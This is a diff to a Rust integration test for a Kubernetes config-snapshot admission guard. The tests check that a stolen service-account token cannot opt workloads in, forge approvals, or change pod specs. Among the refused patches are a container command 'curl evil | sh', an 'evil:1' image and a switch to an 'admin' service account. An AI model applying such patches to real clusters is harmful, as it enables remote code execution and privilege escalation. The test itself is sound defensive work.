@@ -117,6 +117,20 @@ fn web() -> Value {
                             {"name": "both", "projected": {"sources": [{"secret": {"name": "creds"}}]}}]}}}})
 }
 
+/// [`web`] named `name`, carrying `annotations` on itself.
+fn web_as(name: &str, annotations: Value) -> Value {
+    let mut web = web();
+    web["metadata"] = json!({"name": name, "annotations": annotations});
+    web
+}
+
+/// An annotation of config-snapshot's that opts nothing in: the workload is
+/// marked, as serve's records and mapping leave one, and the policy leaves
+/// it be, so what reaches the guard is the thief's patch as sent.
+fn marked() -> Value {
+    json!({"config-snapshot.io/story": "marked"})
+}
+
 /// A Deployment with 30 containers of 10 references each, and 100
 /// volumes: the guard's expressions stay within the API server's CEL
 /// cost limits on a template this large.
@@ -136,7 +150,7 @@ fn large() -> Value {
             {"configMap": {"name": format!("cm{}", v % 10)}}, {"secret": {"name": "creds"}}]}})
         })
         .collect();
-    json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "large"},
+    json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "large", "annotations": marked()},
         "spec": {"replicas": 0, "selector": {"matchLabels": {"app": "large"}},
             "template": {"metadata": {"labels": {"app": "large"}},
                          "spec": {"containers": containers, "volumes": volumes}}}})
@@ -254,9 +268,9 @@ pub fn stolen_token_story(cp: &ControlPlane) {
         "changes a snapshot only in its owners and annotations",
     );
 
-    // A workload: its config references move, between a source's names;
-    // nothing else in it.
-    cp.apply(ns, &web());
+    // A marked workload: its config references move, between a source's
+    // names; nothing else in it.
+    cp.apply(ns, &web_as("web", marked()));
     let at = "/spec/template/spec/containers/0";
     for (what, ops, why) in [
         (
@@ -368,6 +382,9 @@ pub fn stolen_token_story(cp: &ControlPlane) {
         .patch(ns, "deployment/large", &json!(moves))
         .expect("400 moves, within the cost limits");
 
+    never_opted_in(cp, &thief, ns);
+    opted_in(cp, &thief, ns);
+
     // Its webhook configuration: nothing but the door's path, not even its
     // metadata (an ownerReference to nothing would have the garbage
     // collector delete it: the security review's finding 9).
@@ -391,6 +408,196 @@ pub fn stolen_token_story(cp: &ControlPlane) {
         "may change only the door's path",
     );
     cp.kubectl(&["delete", "namespace", ns, "--wait=false"]);
+}
+
+/// Refused as a workload serve's account may not touch.
+const NOT_SERVES: &str = "changes only a workload that already carries a config-snapshot.io/ annotation";
+
+/// A workload that carries no annotation of config-snapshot's is not
+/// serve's (with the shipped settings' defaults off): the token can neither
+/// opt it in nor point it at a snapshot of its making. On c855942^, before
+/// the guard held serve to marked workloads, each went through. With the
+/// guard as deploy/components/by-default makes it (every workload is then
+/// serve's), the move goes through.
+fn never_opted_in(cp: &ControlPlane, thief: &Thief, ns: &str) {
+    // Each attack on a fresh copy: one that went through (before the
+    // guard held it) must not change what the next one meets.
+    let fresh = || {
+        cp.kubectl(&["-n", ns, "delete", "deployment", "plain", "--ignore-not-found"]);
+        cp.apply(ns, &web_as("plain", json!({})));
+    };
+    let at = "/spec/template/spec/containers/0";
+    let repoint = json!([{"op": "replace", "path": format!("{at}/env/0/valueFrom/configMapKeyRef/name"),
+                          "value": "app-0123456789"}]);
+    for (what, ops) in [
+        (
+            "opted a workload in",
+            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1snapshot", "value": "*"}]),
+        ),
+        (
+            "marked a workload's template",
+            json!([{"op": "add", "path": "/spec/template/metadata/annotations",
+                    "value": {"config-snapshot.io/snapshots": "{}"}}]),
+        ),
+        (
+            "pointed a workload that never opted in at its snapshot",
+            repoint.clone(),
+        ),
+    ] {
+        fresh();
+        refused(what, thief.patch(ns, "deployment/plain", &ops), NOT_SERVES);
+    }
+
+    // Installed to snapshot or watch by default: serve's account moves
+    // the unmarked workload's references, as serve does when its source
+    // changes. (The shipped guard is put back after.)
+    let shipped: Value = yaml("deploy/serve/identityguard.yaml").remove(0);
+    let mut by_default = shipped.clone();
+    let ops: json_patch::Patch = serde_json::from_value(
+        serde_yaml_ng::from_str::<Value>(
+            yaml("deploy/components/by-default/kustomization.yaml")[0]["patches"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .find(|p| p["target"]["kind"] == "ValidatingAdmissionPolicy")
+                .expect("the component opens the guard")["patch"]
+                .as_str()
+                .unwrap(),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    json_patch::patch(&mut by_default, &ops).expect("the component's patch applies");
+    cp.apply("default", &by_default);
+    eventually("the by-default guard in force", 30, || {
+        thief.patch(ns, "deployment/plain", &repoint).ok()
+    });
+    cp.apply("default", &shipped);
+    let back = json!([{"op": "replace", "path": format!("{at}/env/0/valueFrom/configMapKeyRef/name"), "value": "app"}]);
+    eventually("the shipped guard back in force", 30, || {
+        thief
+            .patch(ns, "deployment/plain", &back)
+            .err()
+            .filter(|e| e.contains(NOT_SERVES))
+    });
+}
+
+/// A workload that opted in is serve's to roll, and the user's still: the
+/// token cannot change its opt-in or how it rolls (an approval forged, the
+/// approve mode made roll), nor anything in its pods but their references
+/// (image, command, account). serve's own writes go through: a change
+/// recorded as pending, and, approved, rolled with the approval taken off.
+/// The opt-in rows went through on c855942^; the pod rows were refused
+/// already.
+fn opted_in(cp: &ControlPlane, thief: &Thief, ns: &str) {
+    cp.apply(
+        ns,
+        &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds"}, "stringData": {"k": "v"}}),
+    );
+    let fresh = || {
+        cp.kubectl(&["-n", ns, "delete", "deployment", "held", "--ignore-not-found"]);
+        cp.apply(
+            ns,
+            &web_as(
+                "held",
+                json!({"config-snapshot.io/watch": "configmap/app", "config-snapshot.io/watch-mode": "approve"}),
+            ),
+        );
+    };
+    fresh();
+    let reads = || {
+        cp.get(ns, "deployment", "held").unwrap()["spec"]["template"]["spec"]["containers"][0]["env"][0]["valueFrom"]
+            ["configMapKeyRef"]["name"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    let first = reads();
+    assert!(first.starts_with("app-"), "admitted onto a snapshot: {first}");
+    let annotation = |key: &str| {
+        cp.get(ns, "deployment", "held").unwrap()["metadata"]["annotations"][key]
+            .as_str()
+            .map(str::to_string)
+    };
+    let at = "/spec/template/spec/containers/0";
+    let opt_in = "never sets, changes or takes off a workload's opt-in";
+    let pod = "changes nothing in a pod spec but its config references";
+    for (what, ops, why) in [
+        (
+            "widened its watch",
+            json!([{"op": "replace", "path": "/metadata/annotations/config-snapshot.io~1watch", "value": "*"}]),
+            opt_in,
+        ),
+        (
+            "took its watch off",
+            json!([{"op": "remove", "path": "/metadata/annotations/config-snapshot.io~1watch"}]),
+            opt_in,
+        ),
+        (
+            "made its approve mode roll",
+            json!([{"op": "replace", "path": "/metadata/annotations/config-snapshot.io~1watch-mode", "value": "roll"}]),
+            opt_in,
+        ),
+        (
+            "set a rollout window",
+            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1rollout-window",
+                    "value": "0 0 * * * for 24h"}]),
+            opt_in,
+        ),
+        (
+            "opted it out",
+            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1exclude", "value": "*"}]),
+            opt_in,
+        ),
+        (
+            "approved a change",
+            json!([{"op": "add", "path": "/metadata/annotations/config-snapshot.io~1approve",
+                    "value": format!("configmap/app={first}")}]),
+            "only takes approvals off",
+        ),
+        (
+            "changed its image",
+            json!([{"op": "replace", "path": format!("{at}/image"), "value": "evil:1"}]),
+            pod,
+        ),
+        (
+            "gave it a command",
+            json!([{"op": "add", "path": format!("{at}/command"), "value": ["sh", "-c", "curl evil | sh"]}]),
+            pod,
+        ),
+        (
+            "gave its pods another account",
+            json!([{"op": "add", "path": "/spec/template/spec/serviceAccountName", "value": "admin"}]),
+            pod,
+        ),
+    ] {
+        fresh();
+        refused(what, thief.patch(ns, "deployment/held", &ops), why);
+    }
+
+    // serve's own: an edit recorded as pending (serve's write), approved
+    // by the user, rolled and the approval taken off (serve's write).
+    cp.apply(ns, &config_map("app", json!({"mode": "green"})));
+    let pending = eventually("the change recorded as pending", 60, || {
+        annotation("config-snapshot.io/pending")
+    });
+    cp.kubectl(&[
+        "-n",
+        ns,
+        "annotate",
+        "deployment",
+        "held",
+        &format!("config-snapshot.io/approve={pending}"),
+    ]);
+    let next = pending.strip_prefix("configmap/app=").unwrap().to_string();
+    eventually("the approved change rolled by serve, its approval spent", 60, || {
+        (reads() == next && annotation("config-snapshot.io/approve").is_none()).then_some(())
+    });
+    assert_eq!(
+        annotation("config-snapshot.io/watch-mode").as_deref(),
+        Some("approve"),
+        "the user's opt-in kept"
+    );
 }
 
 /// The namespaced install's guard (deploy/components/namespaced): with
